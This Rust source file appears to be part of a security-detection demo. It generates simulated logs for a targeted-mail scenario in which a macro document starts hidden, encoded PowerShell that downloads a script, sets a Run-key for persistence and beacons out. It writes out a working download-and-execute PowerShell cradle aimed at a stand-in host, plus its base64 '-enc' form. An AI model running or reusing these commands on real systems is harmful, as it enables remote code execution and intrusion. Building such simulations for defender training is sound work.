//! A mail that fits the reader's work, a document with a macro, a call home.

use std::net::Ipv4Addr;

use base::ObservableKind::{Address, Domain, Hash};
use watch::judge::Verdict;

use super::{Plot, Stage};
use crate::demo::clock::Moment;
use crate::demo::desk::{Start, sha256};
use crate::demo::write::eve::Alert;
use crate::demo::write::windows::Channel;
use crate::demo::write::{Attachment, Letter, Request};

const RELAY: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 61);
const HOME: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 62);
const HOME_NAME: &str = "news-delivery.example";
const DOCUMENT: &str = "story:targeted_mail";
const WORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('http://news-delivery.example/a.ps1')";
/// [`SCRIPT`] in UTF-16 and base64, as `-enc` takes it.
const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8Adw\
                       BuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AbgBlAHcAcwAtAGQAZQBsAGkAdgBlAHIAeQAu\
                       AGUAeABhAG0AcABsAGUALwBhAC4AcABzADEAJwApAA==";

pub(in crate::demo) static PLOT: Plot = Plot {
    key: "targeted_mail",
    name: ["標的型メールによる遠隔操作", "A targeted mail that calls home"],
    summary: [
        "外事協力省の職員2名に、国際会議の出席者名簿を装うメールが届く。1名が文書を開き、WordからPowerShellが起動して\
         外部から命令を受け取り、その後も10分おきに外部へ通信を続ける。",
        "Two officers of the Ministry of External Cooperation receive what looks like a list of conference delegates. \
         One opens it: Word starts PowerShell, which fetches its orders and then calls out every ten minutes.",
    ],
    starts: Moment::at(10, 12),
    organisations: &["gaiji"],
    rules: &[
        "mail_with_risky_attachment",
        "postfix_risky_attachment",
        "office_starts_shell",
        "powershell_hidden_and_encoded",
        "powershell_download",
        "run_key_to_user_folder",
        "suricata_severe_alert",
    ],
    observables: &[(Address, "192.0.2.61"), (Address, "192.0.2.62"), (Domain, HOME_NAME), (Hash, DOCUMENT)],
    verdict: Verdict::Threat,
    tell,
};

fn tell(stage: &mut Stage<'_>) {
    let mut site = stage.site("gaiji");
    let sha256 = sha256(DOCUMENT);
    for (number, desk) in [88, 112].into_iter().enumerate() {
        let to = format!("{}@{}", site.place.client(desk).person.user, site.place.domain);
        site.receive(&Letter {
            at: Moment::at(10, 12).plus(20.0 + number as f64 * 3.0),
            from: "jimukyoku@kokusai-forum.test",
            from_name: "国際協力フォーラム事務局",
            to: &to,
            subject: "第12回会合 出席者名簿(確認依頼)",
            relay: "smtp.kokusai-forum.test",
            relay_address: RELAY,
            bytes: 184_220,
            attachment: Some(Attachment {
                name: "shussekisha_meibo.docm",
                kind: "application/vnd.ms-word.document.macroEnabled.12",
                sha256: &sha256,
                bytes: 131_584,
            }),
        });
    }

    let client = site.place.client(88);
    let (host, user) = (client.host.as_str(), site.account(&client.person.user));
    let opened = Moment::at(10, 31);
    let folder = format!(
        "C:\\Users\\{}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook",
        client.person.user
    );
    let word_command = format!("\"{WORD}\" /n \"{folder}\\7KQ2XN\\shussekisha_meibo.docm\" /o \"\"");
    let outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
    let start = |at, image, command, parent, parent_command| Start {
        at,
        host,
        user: &user,
        image,
        command,
        parent,
        parent_command,
        integrity: "Medium",
    };
    site.start(&start(opened, WORD, &word_command, outlook, outlook));
    let command = format!("powershell.exe -nop -w hidden -enc {ENCODED}");
    site.start(&start(opened.plus(7.0), POWERSHELL, &command, WORD, &word_command));
    let block = vec![
        ("MessageNumber", "1".to_owned()),
        ("MessageTotal", "1".to_owned()),
        ("ScriptBlockText", SCRIPT.to_owned()),
        ("ScriptBlockId", "e3f076be-14b5-4139-83e5-970412fff9c5".to_owned()),
        ("Path", String::new()),
    ];
    site.windows(opened.plus(7.6), host, (Channel::PowerShell, 4104), block);
    site.lookup(opened.plus(8.0), host, &user, POWERSHELL, (HOME_NAME, &HOME.to_string()));
    site.resolve(opened.plus(8.0), client.address, HOME_NAME, "A", &HOME.to_string());
    site.connect(opened.plus(8.1), (host, client.address), &user, POWERSHELL, (HOME, 80));
    let agent = "Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.22621.4391";
    let fetched = Request {
        https: false,
        bytes: 48_112,
        kind: "text/plain",
        ..Request::get(opened.plus(8.2), HOME_NAME, "/a.ps1", agent)
    };
    site.fetch(client, HOME, "Uncategorized", &fetched);
    site.fetch_on_the_wire(client, HOME, &fetched);
    let flow = site.flow(client.address, HOME, 80);
    let alert = Alert {
        number: 2_022_658,
        signature: "ET MALWARE Windows executable sent when remote host claims to send a script",
        category: "A Network Trojan was detected",
        severity: 1,
        blocked: false,
    };
    site.alert(opened.plus(8.4), &flow, &alert, Some(&fetched));
    let payload =
        format!("C:\\Users\\{}\\AppData\\Roaming\\Microsoft\\Shared\\mssync.exe", client.person.user);
    site.file(opened.plus(11.0), host, &user, POWERSHELL, &payload);
    let key = "HKU\\S-1-5-21-4020993649-1037605004-417876593-1188\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\mssync";
    site.set_value(opened.plus(12.0), host, &user, POWERSHELL, (key, &payload));

    for round in 0..11 {
        let at = opened.plus(540.0 + f64::from(round) * 600.0 + site.dice.unit() * 20.0);
        let post = Request {
            method: "POST",
            https: false,
            bytes: 212,
            ..Request::get(at, HOME_NAME, "/news/post.php", agent)
        };
        site.fetch(client, HOME, "Uncategorized", &post);
        site.fetch_on_the_wire(client, HOME, &post);
    }
}
